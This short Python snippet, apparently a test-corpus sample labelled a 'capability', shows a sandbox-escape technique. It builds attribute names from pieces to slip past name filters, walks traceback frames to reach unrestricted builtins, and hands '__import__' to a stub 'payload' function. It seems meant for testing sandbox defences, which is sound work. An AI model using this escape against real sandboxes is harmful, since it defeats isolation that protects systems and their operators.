# kind: capability
# The traceback walk with computed names and tb_frame read through getattr.
try:
    1 / 0
except ZeroDivisionError as e:
    tb = getattr(e, "__trace" + "back__")
f = getattr(tb, "tb_" + "frame")
while f is not None:
    b = getattr(f, "f_" + "builtins")
    if "open" in b:
        payload(b["__import__"])
        break
    f = getattr(f, "f_" + "back")
